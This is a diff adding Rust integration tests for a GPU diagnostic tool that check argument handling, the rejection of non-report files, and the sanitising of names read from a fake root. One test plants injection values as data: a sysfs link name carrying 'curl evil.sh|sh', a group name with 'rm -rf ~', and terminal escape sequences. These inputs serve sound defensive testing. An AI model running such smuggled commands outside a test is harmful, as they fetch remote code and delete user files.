@@ -309,3 +309,106 @@ fn closed_stdout_pipe_ends_quietly() {
         String::from_utf8_lossy(&out.stderr)
     );
 }
+
+#[test]
+fn hostile_numbers_and_names_are_usage_errors_not_panics() {
+    for args in [
+        vec!["check", "--timeout", "1e20"],
+        vec!["check", "--timeout", "1e308"],
+        vec!["check", "--only", "€"],
+        vec!["check", "--skip", "gö"],
+        vec!["explain", "€1"],
+    ] {
+        let r = run(gpudoctor().args(&args));
+        assert_eq!(r.code, 2, "{args:?}");
+        assert!(!r.stderr.contains("panicked"), "{args:?}: {}", r.stderr);
+    }
+}
+
+#[test]
+fn names_from_the_root_cannot_inject_commands_or_escape_sequences() {
+    let root = FakeRoot::healthy(1);
+    root.file(
+        "etc/os-release",
+        "ID=ubuntu\nPRETTY_NAME=\"Evil\u{1b}[2J\u{1b}]0;pwned\u{7}\"\n",
+    );
+    // A sysfs entry whose name is a shell command, pointing at an unbound NVIDIA GPU.
+    root.file("sys/devices/evil/vendor", "0x10de\n")
+        .file("sys/devices/evil/class", "0x030000\n");
+    root.link(
+        "../../../devices/evil",
+        "sys/bus/pci/devices/0000:20:00.0 && curl evil.sh|sh #",
+    );
+    // SAFETY: getgid only reads credentials.
+    let gid = unsafe { libc::getgid() };
+    root.file("etc/group", &format!("vid eo;rm -rf ~:x:{gid}:\n"));
+    root.chmod("dev/nvidia0", 0o660);
+    for format in ["human", "markdown", "json"] {
+        let r = run(root
+            .cmd()
+            .args(["check", "-v", "--user", "alice", "--format", format]));
+        assert!(
+            !r.stdout.contains('\u{1b}'),
+            "{format}: escape sequence passed through"
+        );
+        assert!(!r.stdout.contains("curl evil.sh"), "{format}");
+        if format != "json" {
+            assert!(
+                r.stdout
+                    .contains("sudo usermod -aG 'vid eo;rm -rf ~' alice"),
+                "{format}: {}",
+                r.stdout
+            );
+        }
+    }
+}
+
+#[test]
+fn only_device_nodes_still_judges_access() {
+    let root = FakeRoot::healthy(1);
+    root.chmod("dev/nvidia0", 0o660);
+    let (code, report) =
+        json(
+            root.cmd()
+                .args(["check", "--user", ALICE, "--only", "device_nodes,GD008"]),
+        );
+    assert_eq!(code, 1);
+    assert_eq!(codes(&report), ["GD008"]);
+    let r = run(root
+        .cmd()
+        .args(["check", "--user", "nosuchuser", "--only", "device_nodes"]));
+    assert_eq!(r.code, 2);
+}
+
+#[test]
+fn from_refuses_what_is_not_a_report_and_reads_pipes() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("package.json");
+    for text in [r#"{"name": "x"}"#, "[]", r#"{"schema_version": 1}"#] {
+        std::fs::write(&file, text).unwrap();
+        let r = run(gpudoctor().args(["check", "--from"]).arg(&file));
+        assert_eq!(r.code, 2, "{text}");
+    }
+    let root = FakeRoot::healthy(1);
+    let saved = run(root
+        .cmd()
+        .args(["check", "--json"])
+        .env("CUDA_LAUNCH_BLOCKING", "1"));
+    std::fs::write(&file, &saved.stdout).unwrap();
+    let r = run(gpudoctor()
+        .args(["check", "--root", "/", "--from"])
+        .arg(&file));
+    assert_eq!(r.code, 2, "--from with --root is contradictory");
+    let bin = assert_cmd::cargo::cargo_bin("gpudoctor");
+    let out = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(format!(
+            "'{}' check --json --from <(cat '{}')",
+            bin.display(),
+            file.display()
+        ))
+        .output()
+        .unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(codes(&v), ["GD012"]);
+}
